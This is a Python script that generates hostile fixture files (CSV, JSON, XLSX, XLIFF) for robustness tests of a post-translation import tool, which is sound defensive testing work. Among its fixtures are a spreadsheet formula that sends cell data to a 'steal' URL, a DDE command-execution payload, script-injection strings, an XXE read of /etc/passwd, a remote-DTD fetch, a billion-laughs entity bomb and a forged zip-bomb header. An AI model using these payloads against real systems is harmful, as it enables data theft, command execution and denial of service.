"""Write the hostile batch files of this folder (see README.md, "Batch files").

Run from the repository root: `.venv/bin/python tests/data/hostile/make_batch_files.py`.
The files are committed; this script says exactly how each was made, byte by byte, and
makes them again the same way. The 200 MB and 10,000-column CSV files are not here: the
tests generate them into a temporary folder (tests/test_hostile_corpus.py).
"""
from __future__ import annotations

import io
import json
import struct
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEADER = "id,platform,source_lang,source_text,target_lang,draft_text\r\n"
ROW = "{id},facebook,zh-CN,我们打了12口井。,en,{text}\r\n"
XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'


def csv_file(rows: list[tuple[str, str]], header: str = HEADER) -> bytes:
    return (header + "".join(ROW.format(id=i, text=t) for i, t in rows)).encode("utf-8")


def write(name: str, data: bytes | str) -> None:
    (HERE / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def csv_files() -> None:
    write("formula_cells.csv", csv_file([
        ("F-1", '"=HYPERLINK(""http://127.0.0.1:9/steal?""&A1,""Click"")"'),
        ("F-2", "+263 77 123 4567 is our hotline"),
        ("F-3", "-5 degrees at night in Nyanga"),
        ("F-4", "@ZimWater thanks for the photos"),
        ("F-5", "\"=cmd|' /C calc'!A0\""),
    ]))
    write("nul_byte.csv", csv_file([("N-1", "fine"), ("N-2", "bro\x00ken"), ("N-3", "fine")]))
    write("invalid_utf8.csv", csv_file([("U-1", "fine")])
          + b"U-2,facebook,zh-CN,x,en,caf\xe9 in Latin-1\r\n")
    write("lone_surrogate.csv", csv_file([("S-1", "fine")])
          + b"S-2,facebook,zh-CN,x,en,half an emoji \xed\xa0\xbd here\r\n")
    write("bom_in_middle.csv", csv_file([("B-1", "first file")])
          + b"\xef\xbb\xbf" + csv_file([("B-2", "second file")]))
    write("mixed_newlines.csv", (
        "id,platform,source_lang,source_text,target_lang,draft_text\r\n"
        "M-1,facebook,zh-CN,一,en,Windows line end\n"
        "M-2,facebook,zh-CN,二,en,Unix line end\r"
        'M-3,facebook,zh-CN,三,en,"old Mac line end, then a cell\r\nover\rthree lines"\r\n'
        "M-4,facebook,zh-CN,四,en,last line without a line end").encode("utf-8"))
    write("unterminated_quote.csv", csv_file([("Q-1", "fine"), ("Q-2", '"never closed'),
                                              ("Q-3", "swallowed")]))
    write("html_text.csv", csv_file([
        ("H-1", '"<script>alert(\'x\')</script>Clean water for <b>3,600</b> people"'),
        ("H-2", '"<img src=x onerror=alert(1)> &amp; <a href=""http://127.0.0.1:9/"">link</a>"'),
    ]))
    write("rtl_marks.csv", csv_file([
        ("R-1", "\u202eevil.exe\u202c is not a file name"),
        ("R-2", "مياه نظيفة\u200f 12 \u200fبئرا"),
        ("R-3", "\u2067שלום\u2069 world"),
    ]))
    write("zero_width.csv", csv_file([
        ("Z-1", "bore\u200bhole"),
        ("Z-2", "mi\u200cxed\u200d joiners\u2060here"),
    ]))
    write("text_100000.csv", csv_file([("L-1", "钻" + "a" * 99_998 + "井")]))
    write("text_100001.csv", csv_file([("L-1", "a" * 100_001)]))


def json_files() -> None:
    post = {"id": "J-1", "platform": "x", "source_lang": "zh-CN", "source_text": "源文",
            "target_lang": "en", "draft_text": "Draft"}

    def dumps(posts: list[dict]) -> str:
        return "[\n" + ",\n".join(json.dumps(p, ensure_ascii=False) for p in posts) + "\n]\n"

    write("wrong_types.json", dumps([
        {**post, "id": True},
        {**post, "id": "J-2", "platform": ["x"]},
        {**post, "id": "J-3", "draft_text": {"en": "Draft"}},
        {**post, "id": 4, "source_text": 12},  # numbers are read as their digits: accepted
    ]))
    nested = "[" * 60 + "]" * 60
    write("deep_nesting.json", dumps([post]).replace('"Draft"}', f'"Draft", "tags": {nested}}}'))
    write("deep_nesting_100k.json", "[" * 100_000 + "]" * 100_000)
    write("duplicate_keys.json", '[\n{"id": "D-1", "platform": "x", "source_lang": "zh-CN", '
          '"source_text": "源文", "target_lang": "en", "draft_text": "Safe", '
          '"draft_text": "Overwritten"}\n]\n')
    write("nan.json", dumps([post]).replace('"Draft"}', '"Draft", "score": NaN, '
                                                        '"reach": Infinity}'))
    write("huge_number.json", dumps([post]).replace('"J-1"', "1e400"))
    write("lone_surrogate.json", dumps([post]).replace('"Draft"', '"half \\ud83d an emoji"'))
    write("lone_surrogate.jsonl", json.dumps(post) + "\n"
          + json.dumps({**post, "id": "J-2"}).replace('"Draft"', '"\\udfff"') + "\n")
    write("not_a_list.json", json.dumps(post) + "\n")


def workbook(rows: list[list[str]], formulas: bool) -> bytes:
    """An XLSX made as a script would: openpyxl stores "=..." as a formula, with no value."""
    if formulas:
        from openpyxl import Workbook

        book = Workbook()
        for row in rows:
            book.active.append(row)
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet()
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write_string(r, c, value)
    book.close()
    return out.getvalue()


def xlsx_files() -> None:
    header = HEADER.strip().split(",")
    rows = [header, ["X-1", "facebook", "zh-CN", "源文", "en", "=1+1"],
            ["X-2", "facebook", "zh-CN", "源文", "en", '=HYPERLINK("http://127.0.0.1:9/","x")']]
    # Fixed time stamps inside the zip, so the script makes the same bytes each time.
    write("formula_cell.xlsx", _fixed_times(workbook(rows, formulas=True)))
    write("formula_text.xlsx", _fixed_times(workbook(rows, formulas=False)))
    good = _fixed_times(workbook(rows[:1] + [["X-1", "x", "zh-CN", "源文", "en", "ok"]], False))
    write("truncated.xlsx", good[:len(good) // 2])
    write("not_a_workbook.xlsx", _zip({"readme.txt": b"This is a zip file, not a workbook.\n"}))
    write("xls_renamed.xlsx", bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 504)
    write("zip_bomb_declared.xlsx", _declared_size(good, 4 * 1024 ** 3 - 1))


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def _fixed_times(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return _zip({info.filename: archive.read(info) for info in archive.infolist()})


def _declared_size(data: bytes, size: int) -> bytes:
    """The workbook with every member claiming `size` bytes unpacked in the central directory:
    what a zip bomb looks like to a reader that checks sizes before unpacking."""
    out = bytearray(data)
    at = out.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", out, at + 24, size)  # uncompressed size
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def xliff_files() -> None:
    unit = ('<trans-unit id="u1"><source>我们打了12口井。</source><target>{text}</target>'
            '</trans-unit>')
    body = ('<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2">\n'
            '<file original="posts" source-language="zh-CN" target-language="en" '
            'datatype="plaintext"><body>\n' + unit + '\n</body></file></xliff>\n')
    laughs = "".join(f'<!ENTITY lol{n} "{("&lol%d;" % (n - 1)) * 10}">' for n in range(1, 10))
    write("billion_laughs.xlf", XML_DECL + '<!DOCTYPE xliff [<!ENTITY lol0 "lol">' + laughs
          + "]>\n" + body.format(text="&lol9;"))
    write("parameter_entity.xlf", XML_DECL + '<!DOCTYPE xliff [<!ENTITY % remote SYSTEM '
          '"http://127.0.0.1:9/evil.dtd"> %remote;]>\n' + body.format(text="x"))
    write("xxe_20.xlf", XML_DECL + '<!DOCTYPE xliff [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
          '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="zh-CN" '
          'trgLang="en"><file id="f1"><unit id="u1"><segment><source>源文</source>'
          '<target>&xxe;</target></segment></unit></file></xliff>\n')
    write("lone_surrogate.xlf", XML_DECL + body.format(text="half &#xD83D; an emoji"))
    write("html_text.xlf", XML_DECL + body.format(
        text="&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &lt;b&gt;water&lt;/b&gt;"))


if __name__ == "__main__":
    csv_files()
    json_files()
    xlsx_files()
    xliff_files()
